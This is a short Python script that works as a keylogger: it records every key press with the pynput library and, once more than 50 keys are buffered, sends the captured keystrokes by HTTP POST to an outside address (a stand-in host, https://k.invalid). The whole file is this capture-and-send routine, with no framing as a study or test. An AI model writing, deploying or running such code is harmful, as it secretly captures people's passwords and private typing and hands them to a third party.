from pynput import keyboard
import requests

buffer = []


def on_press(key):
    buffer.append(str(key))
    if len(buffer) > 50:
        requests.post("https://k.invalid", data="".join(buffer))


keyboard.Listener(on_press=on_press).start()
